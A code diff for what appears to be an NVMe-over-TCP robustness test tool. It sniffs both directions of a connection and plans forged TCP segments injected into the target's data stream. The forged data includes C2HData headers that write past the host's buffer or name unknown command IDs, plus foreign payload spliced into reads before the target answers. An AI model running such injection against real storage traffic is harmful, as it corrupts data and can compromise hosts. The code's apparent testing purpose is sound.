@@ -73,18 +73,21 @@ export function forgeC2HDataHeader(h: ForgedC2HData): Buffer {
   return out;
 }
 
-/** A PDU header the sniffer walked in the target's stream. */
+/** A PDU header the sniffer walked. */
 export interface SniffedPdu {
   /** TCP sequence number of its first byte. */
   readonly seq: number;
   readonly type: number;
   readonly flags: number;
   readonly plen: number;
-  /** CCCID of a C2HData, CID of a CapsuleResp; -1 for other types. */
+  /** CCCID of a C2HData, CID of a CapsuleResp or of a CapsuleCmd's SQE; -1 for other types. */
   readonly cid: number;
   /** C2HData only (else 0). */
   readonly datao: number;
+  /** C2HData: DATAL; CapsuleCmd: the transfer length its SGL descriptor gives. */
   readonly datal: number;
+  /** CapsuleCmd: the SQE's opcode (0x02 read); -1 for other types. */
+  readonly opcode: number;
 }
 
 /** A read the forger saw data for and no completion yet: a CID a forged header can name. */
@@ -117,19 +120,32 @@ export interface ConnectionView {
   readonly nextPduSeq: number | undefined;
 }
 
+/** Which direction of the connection a sniffer walks: the target's (C2H) or the host's (H2C). */
+export type SniffDirection = 'c2h' | 'h2c';
+
+/** Header bytes the walk gathers: enough for a CapsuleCmd's SQE (8 + 64), and every C2H header. */
+const HDR_GATHER = 72;
+/** In a CapsuleCmd: the SQE starts after the common header; CID at SQE byte 2, opcode at 0, SGL length at 24 + 8. */
+const SQE_AT = 8;
+const SQE_CID = 2;
+const SQE_SGL_LENGTH = 24 + 8;
+
 /**
- * One connection's target → host stream as the forger sees it next to the
- * target. Feed it every frame of the connection in capture order (both
- * directions); it walks PDU headers in the target's new bytes and reports
- * each one. A header split across segments is gathered; retransmissions are
- * skipped (their bytes were walked when they first went by).
+ * One direction of one connection as the forger sees it next to the
+ * target. Feed it every frame of the connection in capture order; it walks
+ * PDU headers in that direction's new bytes and reports each one. A header
+ * split across segments is gathered; retransmissions are skipped (their
+ * bytes were walked when they first went by). In the target's direction it
+ * also keeps what a forged segment must match (view()) and the reads in
+ * flight.
  *
- * Sync: from the SYN-ACK (the stream starts with the ICResp), or, when the
+ * Sync: from the SYN (the stream starts with ICReq/ICResp), or, when the
  * sniffer starts mid-connection, at the first segment that begins with a
- * plausible C2HData or CapsuleResp header.
+ * plausible header of a type this direction carries after the handshake.
  */
 export class StreamSniffer {
   private readonly targetPort: number;
+  private readonly dir: SniffDirection;
   private targetIp = 0;
   private hostIp = 0;
   private hostPort = 0;
@@ -144,15 +160,17 @@ export class StreamSniffer {
   // The walk.
   private synced = false;
   private nextPdu = 0;
-  private readonly hdr = Buffer.alloc(C2H_HLEN);
+  private readonly hdr = Buffer.alloc(HDR_GATHER);
   private hdrFill = 0;
+  private hdrNeed = NVME_TCP_COMMON_HEADER_LEN;
   private readonly inflight = new Map<number, InflightRead>();
 
-  constructor(targetPort = 4420) {
+  constructor(targetPort = 4420, direction: SniffDirection = 'c2h') {
     this.targetPort = targetPort;
+    this.dir = direction;
   }
 
-  /** Takes one frame; returns the PDU headers that completed in it (target → host only). */
+  /** Takes one frame; returns the PDU headers of this direction that completed in it. */
   observe(frame: Buffer): SniffedPdu[] {
     let f;
     try {
@@ -162,13 +180,17 @@ export class StreamSniffer {
     }
     const tcp = f.tcp;
     if (f.ip === undefined || tcp === undefined) return [];
-    if (tcp.srcPort !== this.targetPort) return [];
+    const fromTarget = tcp.srcPort === this.targetPort;
+    if (fromTarget !== (this.dir === 'c2h') || (!fromTarget && tcp.dstPort !== this.targetPort)) return [];
+    const hostIp = fromTarget ? f.ip.dst : f.ip.src;
+    const targetIp = fromTarget ? f.ip.src : f.ip.dst;
+    const hostPort = fromTarget ? tcp.dstPort : tcp.srcPort;
     if (!this.known) {
       this.known = true;
-      this.targetIp = f.ip.src;
-      this.hostIp = f.ip.dst;
-      this.hostPort = tcp.dstPort;
-    } else if (f.ip.src !== this.targetIp || f.ip.dst !== this.hostIp || tcp.dstPort !== this.hostPort) {
+      this.targetIp = targetIp;
+      this.hostIp = hostIp;
+      this.hostPort = hostPort;
+    } else if (targetIp !== this.targetIp || hostIp !== this.hostIp || hostPort !== this.hostPort) {
       return [];
     }
     if ((tcp.flags & TCP_RST) !== 0) return [];
@@ -181,18 +203,14 @@ export class StreamSniffer {
     const len = tcp.payload.length;
     if ((tcp.flags & TCP_SYN) !== 0) {
       this.sndNxt = seqAdd(tcp.seq, 1 + len);
-      this.synced = true;
-      this.nextPdu = seqAdd(tcp.seq, 1);
-      this.hdrFill = 0;
+      this.resync(seqAdd(tcp.seq, 1));
       return [];
     }
     if (len === 0) return [];
     const end = seqAdd(tcp.seq, len);
     const fresh = !this.synced || seqGt(end, this.sndNxt);
     if (!this.synced && this.startsWithHeader(tcp.payload)) {
-      this.synced = true;
-      this.nextPdu = tcp.seq;
-      this.hdrFill = 0;
+      this.resync(tcp.seq);
       this.sndNxt = tcp.seq;
     }
     if (!fresh) return [];
@@ -202,7 +220,7 @@ export class StreamSniffer {
     return out;
   }
 
-  /** The connection as a forged segment must match it; undefined before the first target frame. */
+  /** The connection as a forged segment must match it; undefined before the first frame (meaningful in the target's direction). */
   view(): ConnectionView | undefined {
     if (!this.known) return undefined;
     return {
@@ -221,47 +239,57 @@ export class StreamSniffer {
     };
   }
 
-  /** Reads with data seen and no completion yet. */
+  /** Reads with data seen and no completion yet (target's direction). */
   inflightReads(): InflightRead[] {
     return [...this.inflight.values()];
   }
 
+  private resync(seq: number): void {
+    this.synced = true;
+    this.nextPdu = seq;
+    this.hdrFill = 0;
+    this.hdrNeed = NVME_TCP_COMMON_HEADER_LEN;
+  }
+
   private startsWithHeader(payload: Buffer): boolean {
     const t = payload[0];
-    return (t === PduType.C2HData || t === PduType.CapsuleResp) && isPlausiblePduHeader(payload, 0);
+    const ok = this.dir === 'c2h' ? t === PduType.C2HData || t === PduType.CapsuleResp : t === PduType.CapsuleCmd || t === PduType.H2CData;
+    return ok && isPlausiblePduHeader(payload, 0);
   }
 
   /** Walks the new bytes of a segment that starts at `seq`. */
   private walk(seq: number, payload: Buffer, out: SniffedPdu[]): void {
-    // Bytes before sndNxt went by already (a segment overlapping the last one).
-    let at = seqLt(seq, this.sndNxt) ? seqDiff(this.sndNxt, seq) : 0;
     if (seqGt(seq, this.sndNxt)) {
       // A hole on the sender's side: the capture missed frames. Lose the walk; find a header again.
       this.synced = false;
       return;
     }
+    // Bytes before sndNxt went by already (a segment overlapping the last one).
+    let at = seqLt(seq, this.sndNxt) ? seqDiff(this.sndNxt, seq) : 0;
     while (at < payload.length) {
       const pos = seqAdd(seq, at);
       if (seqLt(pos, this.nextPdu)) {
         at += Math.min(payload.length - at, seqDiff(this.nextPdu, pos));
         continue;
       }
-      const n = Math.min(C2H_HLEN - this.hdrFill, payload.length - at);
+      const n = Math.min(this.hdrNeed - this.hdrFill, payload.length - at);
       payload.copy(this.hdr, this.hdrFill, at, at + n);
       this.hdrFill += n;
       at += n;
-      if (this.hdrFill < NVME_TCP_COMMON_HEADER_LEN) return;
-      const hlen = this.hdr[CH_HLEN]!;
-      const plen = this.hdr.readUInt32LE(CH_PLEN);
-      const need = Math.min(hlen, C2H_HLEN);
-      if (this.hdrFill < need) continue;
-      if (!isPlausiblePduHeader(this.hdr.subarray(0, this.hdrFill), 0) && this.hdr[CH_TYPE] !== PduType.ICResp) {
-        this.synced = false;
-        return;
+      if (this.hdrFill < this.hdrNeed) return;
+      if (this.hdrNeed === NVME_TCP_COMMON_HEADER_LEN) {
+        if (!isPlausiblePduHeader(this.hdr, 0)) {
+          this.synced = false;
+          return;
+        }
+        this.hdrNeed = Math.min(this.hdr[CH_HLEN]!, HDR_GATHER);
+        if (this.hdrFill < this.hdrNeed) continue;
       }
+      const plen = this.hdr.readUInt32LE(CH_PLEN);
       out.push(this.header(this.nextPdu, plen));
       this.nextPdu = seqAdd(this.nextPdu, plen);
       this.hdrFill = 0;
+      this.hdrNeed = NVME_TCP_COMMON_HEADER_LEN;
     }
   }
 
@@ -272,6 +300,7 @@ export class StreamSniffer {
     let cid = -1;
     let datao = 0;
     let datal = 0;
+    let opcode = -1;
     if (type === PduType.C2HData) {
       cid = h.readUInt16LE(XFER_CCCID);
       datao = h.readUInt32LE(XFER_DATAO);
@@ -285,10 +314,14 @@ export class StreamSniffer {
     } else if (type === PduType.CapsuleResp) {
       cid = h.readUInt16LE(RESP_CID);
       this.inflight.delete(cid);
+    } else if (type === PduType.CapsuleCmd) {
+      opcode = h[SQE_AT]!;
+      cid = h.readUInt16LE(SQE_AT + SQE_CID);
+      datal = h.readUInt32LE(SQE_AT + SQE_SGL_LENGTH);
     } else if (type === PduType.ICResp && plen !== ICRESP_PLEN) {
       this.synced = false;
     }
-    return { seq, type, flags, plen, cid, datao, datal };
+    return { seq, type, flags, plen, cid, datao, datal, opcode };
   }
 }
 
@@ -421,5 +454,164 @@ export function planForgery(
         what: `${kind}: C2HData cid ${header.cccid} DATAO ${header.datao} DATAL ${header.datal} at seq ${pduEnd >>> 0}`,
       };
     }
+  }
+}
+
+/** Read commands (CapsuleCmd, opcode 0x02) as the forger sees them on the host's side. */
+const NVME_CMD_READ = 0x02;
+
+/**
+ * Plans `kind` on a read command the host just sent (`cmd`: its CID and
+ * transfer length), when the target's stream is idle at a PDU boundary (a
+ * target holding completions, --delay-us): the read's C2HData will start
+ * exactly at `view.nextPduSeq`, and the forger knows its CID and length
+ * before the target answers. So it can win for sure:
+ *  - past-buffer: a C2HData header for the read's CID at that boundary,
+ *    DATAO at the end of its buffer (or, with `datalPast`, DATAO 0 and
+ *    DATAL 4 KiB past the end);
+ *  - unknown-cid: a C2HData header for UNKNOWN_CID there;
+ *  - in-window: `forgeBytes` of other payload in the middle of the read's
+ *    data to come.
+ * Undefined when the stream is not idle at a boundary, digests are not
+ * known yet, or the case is 'overlap' (planned on C2HData instead).
+ */
+export function planAtCommand(
+  kind: ForgeCase,
+  view: ConnectionView,
+  cmd: SniffedPdu,
+  opts: { readonly forgeBytes?: number; readonly datalPast?: boolean; readonly fill?: number } = {},
+): ForgePlan | undefined {
+  if (cmd.type !== PduType.CapsuleCmd || cmd.opcode !== NVME_CMD_READ || cmd.datal === 0) return undefined;
+  const at = view.nextPduSeq;
+  if (at === undefined || at !== view.sndNxt || view.hdgst === undefined || view.ddgst === undefined) return undefined;
+  const headLen = C2H_HLEN + (view.hdgst ? NVME_TCP_DIGEST_LEN : 0);
+  switch (kind) {
+    case 'overlap':
+      return undefined;
+    case 'in-window': {
+      const n = opts.forgeBytes ?? 1024;
+      if (cmd.datal < 4 * n) return undefined;
+      const seq = seqAdd(at, headLen + Math.floor(cmd.datal / 2));
+      const payload = Buffer.alloc(n, opts.fill ?? 0xa5);
+      return { kind, seq, len: n, packet: forgeSegment(view, { seq, payload }), what: `in-window: ${n} bytes of other payload in the data of read cid ${cmd.cid}, at seq ${seq >>> 0}, before the target answers` };
+    }
+    case 'past-buffer':
+    case 'unknown-cid': {
+      const header: ForgedC2HData =
+        kind === 'unknown-cid'
+          ? { cccid: UNKNOWN_CID, datao: 0, datal: 4096, hdgst: view.hdgst, ddgst: view.ddgst }
+          : opts.datalPast === true
+            ? { cccid: cmd.cid, datao: 0, datal: cmd.datal + 4096, hdgst: view.hdgst, ddgst: view.ddgst }
+            : { cccid: cmd.cid, datao: cmd.datal, datal: 4096, hdgst: view.hdgst, ddgst: view.ddgst };
+      const payload = forgeC2HDataHeader(header);
+      return {
+        kind,
+        seq: at,
+        len: payload.length,
+        header,
+        packet: forgeSegment(view, { seq: at, payload }),
+        what: `${kind}: C2HData cid ${header.cccid} DATAO ${header.datao} DATAL ${header.datal} at seq ${at >>> 0}, before the target answers read cid ${cmd.cid}`,
+      };
+    }
+  }
+}
+
+/** One injection the Forger decided on: the plan and the connection (the host's port). */
+export interface ForgeInjection extends ForgePlan {
+  readonly hostPort: number;
+}
+
+export interface ForgerOptions {
+  /** Cases to inject, in order, one at a time. */
+  readonly cases: readonly ForgeCase[];
+  readonly targetPort?: number;
+  /** C2HData PDUs shorter than this do not trigger (default 32 KiB: I/O-queue reads, not the admin queue's Identify). */
+  readonly minPlen?: number;
+  /** Triggering PDUs to let go by before the first injection and between two (default 4). */
+  readonly spacing?: number;
+  /**
+   * Where the cases other than overlap aim: 'race' (default) at the first
+   * trigger they can be planned on, racing the target's own bytes; 'idle'
+   * only at a read command while the target's stream is idle (a target
+   * holding its answers, --delay-us), where the forged bytes come first.
+   */
+  readonly aim?: 'race' | 'idle';
+}
+
+/**
+ * The forger's decisions over every connection to the target: two sniffers
+ * per connection (the target's stream and the host's), and the schedule —
+ * after `spacing` triggers (C2HData headers of at least `minPlen`, read
+ * commands of at least that length) have gone by on any connection, the
+ * next case is planned on the next trigger it can be planned on (a read
+ * command when the target's stream is idle, else a C2HData header), until
+ * every case was injected. Frames the forger sent itself (its IP
+ * identification, a sequence and length it injected) are not taken for
+ * the target's.
+ */
+export class Forger {
+  private readonly conns = new Map<number, { c2h: StreamSniffer; h2c: StreamSniffer }>();
+  private readonly targetPort: number;
+  private readonly minPlen: number;
+  private readonly spacing: number;
+  private readonly aim: 'race' | 'idle';
+  private readonly todo: ForgeCase[];
+  private triggers = 0;
+  private nextAt: number;
+  private readonly sent = new Set<string>();
+
+  constructor(opts: ForgerOptions) {
+    this.targetPort = opts.targetPort ?? 4420;
+    this.minPlen = opts.minPlen ?? 32 * 1024;
+    this.spacing = opts.spacing ?? 4;
+    this.aim = opts.aim ?? 'race';
+    this.todo = [...opts.cases];
+    this.nextAt = this.spacing;
+  }
+
+  /** Cases not injected yet. */
+  get pending(): readonly ForgeCase[] {
+    return this.todo;
+  }
+
+  /** Takes one sniffed frame (either direction); returns what to inject now. */
+  onFrame(frame: Buffer): ForgeInjection[] {
+    let f;
+    try {
+      f = parseFrame(frame);
+    } catch {
+      return [];
+    }
+    const tcp = f.tcp;
+    if (f.ip === undefined || tcp === undefined) return [];
+    const fromTarget = tcp.srcPort === this.targetPort;
+    if (!fromTarget && tcp.dstPort !== this.targetPort) return [];
+    const hostPort = fromTarget ? tcp.dstPort : tcp.srcPort;
+    if (fromTarget && f.ip.id === FORGED_IP_ID && this.sent.has(`${hostPort}:${tcp.seq}:${tcp.payload.length}`)) return [];
+    let c = this.conns.get(hostPort);
+    if (c === undefined) {
+      c = { c2h: new StreamSniffer(this.targetPort, 'c2h'), h2c: new StreamSniffer(this.targetPort, 'h2c') };
+      this.conns.set(hostPort, c);
+    }
+    const out: ForgeInjection[] = [];
+    for (const pdu of (fromTarget ? c.c2h : c.h2c).observe(frame)) {
+      if (this.todo.length === 0) break;
+      const trigger = pdu.type === PduType.C2HData ? pdu.plen >= this.minPlen : pdu.type === PduType.CapsuleCmd && pdu.opcode === NVME_CMD_READ && pdu.datal >= this.minPlen;
+      if (!trigger) continue;
+      this.triggers++;
+      if (this.triggers < this.nextAt) continue;
+      const view = c.c2h.view();
+      if (view === undefined) continue;
+      const kind = this.todo[0]!;
+      let plan: ForgePlan | undefined;
+      if (pdu.type === PduType.CapsuleCmd) plan = planAtCommand(kind, view, pdu);
+      else if (kind === 'overlap' || this.aim === 'race') plan = planForgery(kind, view, pdu, c.c2h.inflightReads().find((r) => r.cid === pdu.cid));
+      if (plan === undefined) continue;
+      this.todo.shift();
+      this.nextAt = this.triggers + this.spacing;
+      this.sent.add(`${hostPort}:${plan.seq >>> 0}:${plan.len}`);
+      out.push({ ...plan, hostPort });
+    }
+    return out;
   }
 }
